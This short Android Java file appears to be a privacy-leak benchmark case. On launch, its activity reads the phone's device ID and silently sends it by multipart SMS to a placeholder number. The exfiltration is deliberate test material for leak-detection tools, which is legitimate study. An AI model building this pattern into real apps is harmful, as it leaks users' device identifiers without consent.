package org.consentry.flow.platform.smsinparts;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.ArrayList;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        SmsManager sms = SmsManager.getDefault();
        ArrayList<String> parts = sms.divideMessage("id " + phone.getDeviceId());
        ArrayList<String> other = sms.divideMessage("none");
        setTitle(parts.size() + " " + other.size());
        sms.sendMultipartTextMessage("+10000000", null, parts, null, null);
    }
}
